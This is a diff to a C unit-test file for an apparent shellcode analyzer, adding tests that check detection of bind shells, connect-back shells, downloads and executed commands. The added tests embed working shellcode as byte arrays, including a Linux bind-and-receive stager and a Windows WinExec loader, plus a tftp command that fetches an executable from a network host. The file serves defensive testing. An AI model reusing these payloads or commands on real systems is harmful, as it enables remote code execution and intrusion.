@@ -78,6 +78,7 @@ expect_bind(const char *name, long off, uint16_t port)
 	if (a == NULL)
 		fail_msg("%s: no bind_shell (%zu actions)", name, res.nactions);
 	assert_int_equal(a->port, port);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	assert_true(res.shellcode);
 	if (off >= 0)
 		assert_int_equal(res.offset, off);
@@ -111,6 +112,7 @@ test_connect_06(void **state)
 	assert_non_null(a = find(&res, SC_CONNECT_SHELL));
 	assert_string_equal(a->host, "216.75.15.231");
 	assert_int_equal(a->port, 4321);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	assert_int_equal(res.offset, 4);
 }
 
@@ -125,6 +127,7 @@ test_download_07(void **state)
 	    "bad-exe.bin", 0x12, &res);
 	assert_non_null(a = find(&res, SC_DOWNLOAD));
 	assert_string_equal(a->url, "http://nepenthes.mwcollect.org/bad.exe");
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	/* Running the downloaded file is not a separate command. */
 	assert_null(find(&res, SC_EXEC));
 }
@@ -141,6 +144,7 @@ test_exec_08(void **state)
 	assert_non_null(a = find(&res, SC_EXEC));
 	assert_string_equal(a->command, "cmd -c ftp.exe -s foo.scripted_"
 	    "sequence; echo der fox hat die gans gezogen ");
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 }
 
 static void
@@ -179,9 +183,14 @@ test_more_binds(void **state)
 	    0x12, 6318);
 }
 
+/*
+ * A receive_file action: mode, host, port, and the dialogue (Nepenthes'
+ * proto name, the key stage 1 hands stage 2, a 4-byte length prefix).
+ */
 static void
 expect_receive(const char *name, long off, const char *mode,
-    const char *host, uint16_t port)
+    const char *host, uint16_t port, const char *proto, const char *key,
+    int prefix)
 {
 	struct sc_result	 res;
 	const struct sc_action	*a;
@@ -190,9 +199,14 @@ expect_receive(const char *name, long off, const char *mode,
 	a = find(&res, SC_RECEIVE_FILE);
 	if (a == NULL)
 		fail_msg("%s: no receive_file", name);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	assert_string_equal(a->mode, mode);
 	assert_string_equal(a->host, host);
 	assert_int_equal(a->port, port);
+	assert_string_equal(a->proto, proto);
+	assert_string_equal(a->key, key);
+	assert_int_equal(a->length_prefix, prefix);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 	assert_null(find(&res, SC_BIND_SHELL));
 	assert_null(find(&res, SC_CONNECT_SHELL));
 }
@@ -202,25 +216,74 @@ static void
 test_receive_bind_11(void **state)
 {
 	(void)state;
-	expect_receive("libemu_11_amberg.bin", 0x10, "bind", "", 44028);
+	expect_receive("libemu_11_amberg.bin", 0x10, "bind", "", 44028,
+	    "creceive", "", 0);
 }
 
-/* lindau linkbot: connect back, recv the stage. */
+/*
+ * lindau linkbot: connect back, recv the stage and run it with the key
+ * in edi (mov edi, 0x8506acac; jmp ebp): the key is its bytes in memory
+ * order, what stage 2 sends back.
+ */
 static void
 test_receive_connect_12(void **state)
 {
 	(void)state;
 	expect_receive("libemu_12_lindau-linkbot-connectback-version.bin", -1,
-	    "connect", "62.47.217.254", 15385);
+	    "connect", "62.47.217.254", 15385, "link", "acac0685", 0);
 }
 
-/* halle csend: msvcrt by GetProcAddress, connect, recv into a file. */
+/*
+ * halle csend: msvcrt by GetProcAddress, connect, recv 4 bytes (the
+ * file's length), then the file.
+ */
 static void
 test_receive_connect_14(void **state)
 {
 	(void)state;
 	expect_receive("libemu_14_halle-filetransferr-via-csend.bin", 0x12,
-	    "connect", "70.228.36.118", 11805);
+	    "connect", "70.228.36.118", 11805, "csend", "", 4);
+}
+
+/*
+ * A blink stager (Linux, hand-assembled): bind 38963, listen, accept,
+ * recv 0x200 bytes into the stack, mov edi, 0xedfe0dd0, jmp ebp: a
+ * blink whose key is d00dfeed (edi's bytes in memory order).
+ */
+static const uint8_t	test_blink[] = {
+	0x31, 0xdb, 0xf7, 0xe3, 0x53, 0x43, 0x53, 0x6a, 0x02,	/* socket */
+	0x89, 0xe1, 0xb0, 0x66, 0xcd, 0x80, 0x89, 0xc6,
+	0x52, 0x66, 0x68, 0x98, 0x33, 0x66, 0x6a, 0x02,		/* bind */
+	0x89, 0xe1, 0x6a, 0x10, 0x51, 0x56, 0x89, 0xe1,
+	0x43, 0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x6a, 0x01, 0x56, 0x89, 0xe1, 0xb3, 0x04,		/* listen */
+	0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x52, 0x52, 0x56, 0x89, 0xe1, 0xb3, 0x05,		/* accept */
+	0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0x81, 0xec, 0x00, 0x02, 0x00, 0x00, 0x89, 0xe5,		/* recv */
+	0x52, 0x68, 0x00, 0x02, 0x00, 0x00, 0x55, 0x50,
+	0x89, 0xe1, 0xb3, 0x0a, 0x6a, 0x66, 0x58, 0xcd, 0x80,
+	0xbf, 0xd0, 0x0d, 0xfe, 0xed,				/* the key */
+	0xff, 0xe5						/* jmp ebp */
+};
+
+static void
+test_receive_blink(void **state)
+{
+	struct sc_result	 res;
+	const struct sc_action	*a;
+
+	(void)state;
+	assert_int_equal(sc_analyze(test_blink, sizeof(test_blink), NULL,
+	    NULL, &res), 0);
+	assert_int_equal(res.nactions, 1);
+	assert_non_null(a = find(&res, SC_RECEIVE_FILE));
+	assert_string_equal(a->mode, "bind");
+	assert_int_equal(a->port, 38963);
+	assert_string_equal(a->proto, "blink");
+	assert_string_equal(a->key, "d00dfeed");
+	assert_int_equal(a->length_prefix, 0);
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
 }
 
 /*
@@ -271,48 +334,98 @@ test_fnstenv_getpc(void **state)
  * 0x876f8b31, Metasploit's hash of kernel32.dll!WinExec; then
  * WinExec("cmd /c echo sundew").  Assembled from our own source.
  */
-static void
-test_hash_resolution(void **state)
-{
-	static uint8_t		 code[] = {
-		0xe9, 0x99, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x44, 0x33,
-		0x22, 0x11, 0xe8, 0x07, 0x00, 0x00, 0x00, 0x5e, 0x6a, 0x01,
-		0x56, 0xff, 0xd0, 0xcc, 0x64, 0x8b, 0x15, 0x30, 0x00, 0x00,
-		0x00, 0x8b, 0x52, 0x0c, 0x8d, 0x7a, 0x14, 0x8b, 0x17, 0x39,
-		0xfa, 0x74, 0x70, 0x57, 0x0f, 0xb7, 0x4a, 0x26, 0x8b, 0x72,
-		0x28, 0x31, 0xed, 0xe3, 0x11, 0x31, 0xc0, 0xac, 0x3c, 0x61,
-		0x72, 0x02, 0x2c, 0x20, 0xc1, 0xcd, 0x0d, 0x01, 0xc5, 0x49,
-		0xeb, 0xed, 0x52, 0x8b, 0x52, 0x10, 0x8b, 0x42, 0x3c, 0x8b,
-		0x44, 0x02, 0x78, 0x85, 0xc0, 0x74, 0x3e, 0x01, 0xd0, 0x8b,
-		0x48, 0x18, 0xe3, 0x37, 0x49, 0x8b, 0x70, 0x20, 0x01, 0xd6,
-		0x8b, 0x34, 0x8e, 0x01, 0xd6, 0x50, 0x31, 0xff, 0x31, 0xc0,
-		0xac, 0xc1, 0xcf, 0x0d, 0x01, 0xc7, 0x84, 0xc0, 0x75, 0xf4,
-		0x01, 0xef, 0x58, 0x39, 0xdf, 0x75, 0xdd, 0x8b, 0x70, 0x24,
-		0x01, 0xd6, 0x0f, 0xb7, 0x0c, 0x4e, 0x8b, 0x70, 0x1c, 0x01,
-		0xd6, 0x8b, 0x04, 0x8e, 0x01, 0xd0, 0x5a, 0x5f, 0xc3, 0x5a,
-		0x5f, 0x8b, 0x12, 0xeb, 0x8c, 0x31, 0xc0, 0xc3, 0xe8, 0x62,
-		0xff, 0xff, 0xff, 0x63, 0x6d, 0x64, 0x20, 0x2f, 0x63, 0x20,
-		0x65, 0x63, 0x68, 0x6f, 0x20, 0x73, 0x75, 0x6e, 0x64, 0x65,
-		0x77, 0x00
-	};
-	struct sc_result	 res;
-	struct sc_limits	 l;
-	const struct sc_action	*a;
-	long			 off = 0;
+static const uint8_t	winexec_code[] = {
+	0xe9, 0x99, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x44, 0x33,
+	0x22, 0x11, 0xe8, 0x07, 0x00, 0x00, 0x00, 0x5e, 0x6a, 0x01,
+	0x56, 0xff, 0xd0, 0xcc, 0x64, 0x8b, 0x15, 0x30, 0x00, 0x00,
+	0x00, 0x8b, 0x52, 0x0c, 0x8d, 0x7a, 0x14, 0x8b, 0x17, 0x39,
+	0xfa, 0x74, 0x70, 0x57, 0x0f, 0xb7, 0x4a, 0x26, 0x8b, 0x72,
+	0x28, 0x31, 0xed, 0xe3, 0x11, 0x31, 0xc0, 0xac, 0x3c, 0x61,
+	0x72, 0x02, 0x2c, 0x20, 0xc1, 0xcd, 0x0d, 0x01, 0xc5, 0x49,
+	0xeb, 0xed, 0x52, 0x8b, 0x52, 0x10, 0x8b, 0x42, 0x3c, 0x8b,
+	0x44, 0x02, 0x78, 0x85, 0xc0, 0x74, 0x3e, 0x01, 0xd0, 0x8b,
+	0x48, 0x18, 0xe3, 0x37, 0x49, 0x8b, 0x70, 0x20, 0x01, 0xd6,
+	0x8b, 0x34, 0x8e, 0x01, 0xd6, 0x50, 0x31, 0xff, 0x31, 0xc0,
+	0xac, 0xc1, 0xcf, 0x0d, 0x01, 0xc7, 0x84, 0xc0, 0x75, 0xf4,
+	0x01, 0xef, 0x58, 0x39, 0xdf, 0x75, 0xdd, 0x8b, 0x70, 0x24,
+	0x01, 0xd6, 0x0f, 0xb7, 0x0c, 0x4e, 0x8b, 0x70, 0x1c, 0x01,
+	0xd6, 0x8b, 0x04, 0x8e, 0x01, 0xd0, 0x5a, 0x5f, 0xc3, 0x5a,
+	0x5f, 0x8b, 0x12, 0xeb, 0x8c, 0x31, 0xc0, 0xc3, 0xe8, 0x62,
+	0xff, 0xff, 0xff
+};
 
-	(void)state;
+/*
+ * winexec_code with the hash of WinExec, cmd (and its NUL) after it,
+ * then extralen bytes of extra, into code (size bytes); the length.
+ */
+static size_t
+winexec(uint8_t *code, size_t size, const char *cmd, const void *extra,
+    size_t extralen)
+{
+	size_t	n = sizeof(winexec_code);
+
+	assert_true(n + strlen(cmd) + 1 + extralen <= size);
+	memcpy(code, winexec_code, n);
 	/* The hash operand of `mov ebx, imm32`. */
 	assert_int_equal(code[8], 0x44);
 	code[8] = 0x31;
 	code[9] = 0x8b;
 	code[10] = 0x6f;
 	code[11] = 0x87;
+	memcpy(code + n, cmd, strlen(cmd) + 1);
+	n += strlen(cmd) + 1;
+	if (extralen > 0)
+		memcpy(code + n, extra, extralen);
+	return n + extralen;
+}
+
+static void
+test_hash_resolution(void **state)
+{
+	uint8_t			 code[256];
+	struct sc_result	 res;
+	struct sc_limits	 l;
+	const struct sc_action	*a;
+	size_t			 n;
+	long			 off = 0;
+
+	(void)state;
+	n = winexec(code, sizeof(code), "cmd /c echo sundew", NULL, 0);
 	result_init(&res);
 	limits(&l, 1);
-	assert_int_equal(sc_emu_run(code, sizeof(code), &off, 1, &l, &res),
-	    0);
+	assert_int_equal(sc_emu_run(code, n, &off, 1, &l, &res), 0);
 	assert_non_null(a = find(&res, SC_EXEC));
 	assert_string_equal(a->command, "cmd /c echo sundew");
+	assert_int_equal(a->evidence, SC_EV_EMULATED);
+}
+
+/*
+ * The whole analysis of code that runs a command fetching a file, its
+ * URL also in clear in the data: the command and the URL found in clear
+ * are the same actions as those the run asked for, and take their
+ * evidence; the download the command amounts to is as real as the
+ * command.
+ */
+static void
+test_analyze_emulated_command(void **state)
+{
+	static const char	 cmd[] = "cmd /c tftp -i 203.0.113.9 get b.exe";
+	static const char	 url[] = "tftp://203.0.113.9/b.exe";
+	uint8_t			 code[256];
+	struct sc_result	 res;
+	const struct sc_action	*a;
+	size_t			 n, i;
+
+	(void)state;
+	n = winexec(code, sizeof(code), cmd, url, sizeof(url));
+	assert_int_equal(sc_analyze(code, n, NULL, NULL, &res), 0);
+	assert_int_equal(res.nactions, 2);
+	assert_non_null(a = find(&res, SC_EXEC));
+	assert_string_equal(a->command, cmd);
+	assert_non_null(a = find(&res, SC_DOWNLOAD));
+	assert_string_equal(a->url, url);
+	for (i = 0; i < res.nactions; i++)
+		assert_int_equal(res.actions[i].evidence, SC_EV_EMULATED);
 }
 
 /*
@@ -633,8 +746,10 @@ main(void)
 		cmocka_unit_test(test_receive_bind_11),
 		cmocka_unit_test(test_receive_connect_12),
 		cmocka_unit_test(test_receive_connect_14),
+		cmocka_unit_test(test_receive_blink),
 		cmocka_unit_test(test_fnstenv_getpc),
 		cmocka_unit_test(test_hash_resolution),
+		cmocka_unit_test(test_analyze_emulated_command),
 		cmocka_unit_test(test_linux_connect),
 		cmocka_unit_test(test_seh_handler),
 		cmocka_unit_test(test_connect_by_name),
